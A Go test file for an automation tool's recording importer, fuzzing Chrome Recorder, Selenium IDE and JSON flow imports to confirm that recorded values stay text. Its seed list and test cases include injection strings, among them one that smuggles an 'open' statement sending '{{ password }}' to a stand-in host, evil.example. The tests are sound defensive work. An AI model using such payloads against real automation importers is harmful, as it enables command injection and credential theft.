package importer

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/expr-lang/expr/file"
	"github.com/expr-lang/expr/parser/lexer"

	"github.com/rpa-dev/rpa/lang"
	"github.com/rpa-dev/rpa/lang/ast"
	"github.com/rpa-dev/rpa/lang/format"
)

// The property every importer keeps, whatever a recording's values hold
// (quotes, newlines, `{{ }}`, code): the imported flow's statements are
// exactly those the recording's steps map to, and the names it reads are
// exactly those the steps name. A value can neither add a statement nor an
// interpolation. Each fuzz target imports a fixed recording whose values
// come from the fuzzer, prints the flow, loads it back and compares its
// shape (statements, params, names read) with the recording's shape for
// plain values, which is pinned too.

// shapeOf loads a printed flow and describes it: one line per statement
// (kind, action, bound name, argument and option count; blocks indented),
// its params (name: type) and the sorted names its expressions and
// interpolations read (inside string literals of expressions too).
func shapeOf(t *testing.T, text []byte) string {
	t.Helper()
	fl, ds := lang.Load("x.flow", text)
	if ds.HasErrors() {
		t.Fatalf("imported flow does not load: %s\n%s", ds.Error(), text)
	}
	var b strings.Builder
	names := map[string]bool{}
	for _, p := range fl.File.Params {
		fmt.Fprintf(&b, "param %s: %s\n", p.Name, p.Type.Name)
		exprNamesInto(p.Default, names)
	}
	var stmts func(ss []ast.Stmt, in string)
	stmts = func(ss []ast.Stmt, in string) {
		for _, s := range ss {
			switch s := s.(type) {
			case *ast.ActionStmt:
				var opts []string
				for _, o := range s.Options {
					opts = append(opts, o.Name)
					exprNamesInto(o.Value, names)
				}
				for _, a := range s.Args {
					exprNamesInto(a, names)
				}
				fmt.Fprintf(&b, "%s%s = %s args=%d opts=%v\n", in, s.Target, s.Action, len(s.Args), opts)
			case *ast.AssignStmt:
				exprNamesInto(s.Value, names)
				fmt.Fprintf(&b, "%s%s =\n", in, s.Name)
			case *ast.IfStmt:
				exprNamesInto(s.Cond, names)
				fmt.Fprintf(&b, "%sif\n", in)
				stmts(s.Then, in+"  ")
				fmt.Fprintf(&b, "%selse\n", in)
				stmts(s.Else, in+"  ")
			case *ast.ForStmt:
				exprNamesInto(s.Iter, names)
				fmt.Fprintf(&b, "%sfor %s\n", in, s.Var)
				stmts(s.Body, in+"  ")
			case *ast.WhileStmt:
				exprNamesInto(s.Cond, names)
				fmt.Fprintf(&b, "%swhile\n", in)
				stmts(s.Body, in+"  ")
			case *ast.FrameStmt:
				exprNamesInto(s.Selector, names)
				fmt.Fprintf(&b, "%sframe\n", in)
				stmts(s.Body, in+"  ")
			case *ast.TryStmt:
				fmt.Fprintf(&b, "%stry\n", in)
				stmts(s.Body, in+"  ")
				stmts(s.Catch, in+"  ")
			case *ast.RetryStmt:
				fmt.Fprintf(&b, "%sretry\n", in)
				stmts(s.Body, in+"  ")
			case *ast.ReturnStmt:
				exprNamesInto(s.Value, names)
				fmt.Fprintf(&b, "%sreturn\n", in)
			case *ast.FailStmt:
				exprNamesInto(s.Message, names)
				fmt.Fprintf(&b, "%sfail\n", in)
			case *ast.AssertStmt:
				exprNamesInto(s.Cond, names)
				exprNamesInto(s.Message, names)
				fmt.Fprintf(&b, "%sassert\n", in)
			case *ast.LogStmt:
				exprNamesInto(s.Value, names)
				fmt.Fprintf(&b, "%slog\n", in)
			default:
				fmt.Fprintf(&b, "%s%T\n", in, s)
			}
		}
	}
	stmts(fl.File.Body, "")
	var ns []string
	for n := range names {
		ns = append(ns, n)
	}
	sort.Strings(ns)
	fmt.Fprintf(&b, "reads %v\n", ns)
	return b.String()
}

// exprNamesInto adds the names e reads: the free names of expression
// source and of every interpolation, also inside the string literals of
// an expression (which interpolate too).
func exprNamesInto(e ast.Expr, into map[string]bool) {
	switch e := e.(type) {
	case *ast.ExprSrc:
		srcNamesInto(e.Source, into)
	case *ast.StringLit:
		for _, p := range e.Parts {
			if p.Expr != nil {
				srcNamesInto(p.Expr.Source, into)
			}
		}
	case *ast.ListLit:
		for _, x := range e.Elems {
			exprNamesInto(x, into)
		}
	case *ast.MapLit:
		for _, en := range e.Entries {
			exprNamesInto(en.Key, into)
			exprNamesInto(en.Value, into)
		}
	}
}

var interpRe = regexp.MustCompile(`\{\{(.*?)\}\}`)

func srcNamesInto(src string, into map[string]bool) {
	free, err := exprNames(src)
	if err != nil {
		into["<unparsable: "+src+">"] = true
		return
	}
	for _, n := range free {
		into[n] = true
	}
	toks, _ := lexer.Lex(file.NewSource(src))
	for _, t := range toks {
		if t.Kind == lexer.String {
			for _, m := range interpRe.FindAllStringSubmatch(t.Value, -1) {
				srcNamesInto(m[1], into)
			}
		}
	}
}

// checkProperty imports doc (JSON) twice, with plain values and with the
// fuzzer's, and compares the shapes; want pins the plain shape.
func checkProperty(t *testing.T, name string, plain, fuzzed any, want string) {
	t.Helper()
	ref := importShape(t, name, plain, true)
	if ref.shape != want {
		t.Fatalf("%s with plain values:\n%s\nwant:\n%s", name, ref.shape, want)
	}
	got := importShape(t, name, fuzzed, false)
	if got.errors || got.warnings != ref.warnings {
		return // refused, or a step not imported (and said so): nothing to compare
	}
	if got.shape != ref.shape {
		t.Fatalf("%s: the values changed the flow:\n%s\nwant (plain values):\n%s\nflow:\n%s", name, got.shape, ref.shape, got.text)
	}
}

type imported struct {
	shape, text string
	errors      bool
	warnings    int
}

func importShape(t *testing.T, name string, doc any, must bool) imported {
	t.Helper()
	src, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	flows, ds := Import(name, src, Options{})
	out := imported{errors: ds.HasErrors(), warnings: len(ds)}
	if out.errors {
		if must {
			t.Fatalf("%s: %s", name, ds.Error())
		}
		return out
	}
	if len(flows) != 1 {
		t.Fatalf("%s: %d flows", name, len(flows))
	}
	text := format.Flow(flows[0].File)
	out.text = string(text)
	out.shape = shapeOf(t, text)
	return out
}

// fuzzValues are seeds that broke or nearly broke importers.
var fuzzValues = []string{
	"plain", "", `"quoted" \ back`, "{{ password }}", "a{{ '{{' }}b", "x}}y{{", "{{", "line\nbreak\nopen \"https://evil/\"",
	"\u2028exec \"id\"", "# comment", "a{", "}", "'single'", "`tick`", "${", "{$", "\r\nfail \"x\"", "x\" + password + \"",
	"== 2\nopen \"https://evil/?{{ password }}\"\nwait until: page.count(\"#x\") ==",
}

const recordedPassword = "Rec0rded-Pa55word"

// FuzzChromeProperty: values of a Chrome DevTools Recorder recording
// (step values, selectors, URL paths, the waitForElement operator).
func FuzzChromeProperty(f *testing.F) {
	for _, v := range fuzzValues {
		f.Add(v, v, v)
	}
	f.Add("ok", "ok", "==")
	f.Fuzz(func(t *testing.T, value, sel, op string) {
		if strings.Contains(value+sel, recordedPassword) || placeholderRe().MatchString(value+sel) {
			return // the password's own scrub, the format's own {$name}
		}
		doc := func(value, sel, op string) any {
			return map[string]any{"title": "t", "steps": []any{
				map[string]any{"type": "navigate", "url": "https://example.com/p"},
				map[string]any{"type": "change", "value": value, "selectors": []any{[]any{"input#q"}}},
				map[string]any{"type": "change", "value": recordedPassword, "selectors": []any{[]any{"input#password"}}},
				map[string]any{"type": "click", "selectors": []any{[]any{"#go"}}},
				map[string]any{"type": "waitForElement", "selectors": []any{[]any{sel}}, "count": 2, "operator": op, "visible": false},
			}}
		}
		checkProperty(t, "c.json", doc("plain", "#row", "=="), doc(value, sel, op), `param base_url: string
param password: secret
 = open args=1 opts=[]
 = fill args=2 opts=[]
 = fill args=2 opts=[]
 = click args=1 opts=[]
 = wait args=0 opts=[until]
reads [base_url password]
`)
		if op != "" && !slices.Contains(waitOperators, op) {
			if _, ds := Import("c.json", mustJSON(t, doc("plain", "#row", op)), Options{}); !ds.HasErrors() {
				t.Fatalf("operator %q was imported", op)
			}
		}
	})
}

// FuzzSideProperty: values of a Selenium IDE project (typed text, asserted
// text, dialog messages, URL paths, a JavaScript condition).
func FuzzSideProperty(f *testing.F) {
	for _, v := range fuzzValues {
		f.Add(v, v, v)
	}
	f.Fuzz(func(t *testing.T, value, text, cond string) {
		if strings.Contains(value+text+cond, recordedPassword) || varRefRe().MatchString(value+text+cond) {
			return // the password's own scrub, the format's own ${name}
		}
		doc := func(value, text, cond string) any {
			return map[string]any{"version": "2.0", "url": "https://example.com", "tests": []any{
				map[string]any{"name": "t", "commands": []any{
					map[string]any{"command": "open", "target": "/p"},
					map[string]any{"command": "type", "target": "id=q", "value": value},
					map[string]any{"command": "type", "target": "id=password", "value": recordedPassword},
					map[string]any{"command": "assertText", "target": "id=out", "value": text},
					map[string]any{"command": "verifyText", "target": "id=out", "value": text + "${who}"},
					map[string]any{"command": "assertAlert", "target": text},
					map[string]any{"command": "if", "target": cond},
					map[string]any{"command": "click", "target": "id=go"},
					map[string]any{"command": "end"},
				}},
			}}
		}
		checkProperty(t, "p.side", doc("plain", "plain", "1 == 1"), doc(value, text, cond), `param base_url: string
param password: secret
param who: string
 = open args=1 opts=[]
 = fill args=2 opts=[]
 = fill args=2 opts=[]
actual = text args=1 opts=[]
assert
actual = text args=1 opts=[]
if
  log
else
 = wait args=0 opts=[until optional]
assert
if
   = click args=1 opts=[]
else
reads [actual base_url password who]
`)
	})
}

// FuzzJSONFlowProperty: values of an rpa2mcp JSON flow (typed text, a URL
// path, a prompt, a selector).
func FuzzJSONFlowProperty(f *testing.F) {
	for _, v := range fuzzValues {
		f.Add(v, v)
	}
	f.Fuzz(func(t *testing.T, value, sel string) {
		if strings.Contains(value+sel, recordedPassword) || tmplRe().MatchString(value+sel) {
			return // the password's own scrub, the format's own {{name}}
		}
		doc := func(value, sel string) any {
			return map[string]any{"name": "t", "steps": []any{
				map[string]any{"type": "navigate", "attrs": map[string]any{"url": "https://example.com/" + value}},
				map[string]any{"type": "input", "attrs": map[string]any{"selector": sel, "value": value}},
				map[string]any{"type": "input", "attrs": map[string]any{"selector": "#password", "value": recordedPassword}},
				map[string]any{"type": "click", "attrs": map[string]any{"selector": sel}},
				map[string]any{"type": "extract", "attrs": map[string]any{"selector": sel, "store": "out"}},
				map[string]any{"type": "llm", "attrs": map[string]any{"prompt": value + "{{out}}", "store": "answer"}},
			}}
		}
		checkProperty(t, "j.json", doc("plain", "#q"), doc(value, sel), `param password: secret
 = open args=1 opts=[]
 = fill args=2 opts=[]
 = fill args=2 opts=[]
 = click args=1 opts=[]
out = text args=1 opts=[]
answer = llm args=1 opts=[]
reads [out password]
`)
	})
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestValuesStayText: the attacks of a hostile recording, each a value
// that once became code.
func TestValuesStayText(t *testing.T) {
	for _, c := range []struct {
		name, file, doc string
		err             string // an import error, when the recording is refused
		has, hasNot     []string
	}{
		{"a newline in waitForElement's operator adds statements", "c.json",
			`{"title":"t","steps":[{"type":"navigate","url":"https://e.com/"},{"type":"change","value":"s3cret-Value","selectors":[["input#password"]]},
			{"type":"waitForElement","selectors":[["#x"]],"count":2,"operator":"== 2\nopen \"https://evil.example/?{{ password }}\"\nwait until: page.count(\"#x\") =="}]}`,
			`operator "== 2\nopen`, nil, nil},
		{"an operator outside the documented set", "c.json",
			`{"title":"t","steps":[{"type":"waitForElement","selectors":[["#x"]],"count":2,"operator":"!="}]}`,
			`operator "!=" is not one of >=, ==, <=`, nil, nil},
		{"assertText holding {{ password }} stays text", "p.side",
			`{"version":"2.0","url":"http://h","tests":[{"name":"t","commands":[{"command":"open","target":"/"},
			{"command":"type","target":"id=password","value":"s3cret-Value"},
			{"command":"assertText","target":"id=x","value":"{{ password }}"},
			{"command":"verifyText","target":"id=x","value":"{{ password }}${who}"},
			{"command":"if","target":"${who} == \"{{ password }}\""},{"command":"end"}]}]}`,
			"", []string{`assert actual == "{{ '{{' }} password }}"`, `string(actual) == "{{ '{{' }} password }}{{who}}"`, `if who == "{{ '{{' }} password }}"`},
			[]string{`"{{ password }}"`}},
		{"a change holding {{ keeps its fill", "c.json",
			`{"title":"t","steps":[{"type":"navigate","url":"https://e.com/"},{"type":"change","value":"a{{b}}c{{","selectors":[["input#q"]]}]}`,
			"", []string{`fill "input#q" "a{{ '{{' }}b}}c{{ '{{' }}"`}, nil},
		{"a Chrome selector holding {{ stays text in an expression", "c.json",
			`{"title":"t","steps":[{"type":"waitForElement","selectors":[["#a{{ x }}"]],"count":3,"visible":false}]}`,
			"", []string{`page.count("#a{{ '{{' }} x }}") >= 3`}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			flows, ds := Import(c.file, []byte(c.doc), Options{})
			if c.err != "" {
				if !ds.HasErrors() || !strings.Contains(ds.Error(), c.err) {
					t.Fatalf("diagnostics %v, want the error %q", ds.Error(), c.err)
				}
				return
			}
			if ds.HasErrors() || len(flows) != 1 {
				t.Fatalf("%v", ds.Error())
			}
			text := string(format.Flow(flows[0].File))
			shapeOf(t, []byte(text)) // loads clean
			for _, h := range c.has {
				if !strings.Contains(text, h) {
					t.Errorf("flow lacks %s:\n%s", h, text)
				}
			}
			for _, h := range c.hasNot {
				if strings.Contains(text, h) {
					t.Errorf("flow holds %s:\n%s", h, text)
				}
			}
		})
	}
}
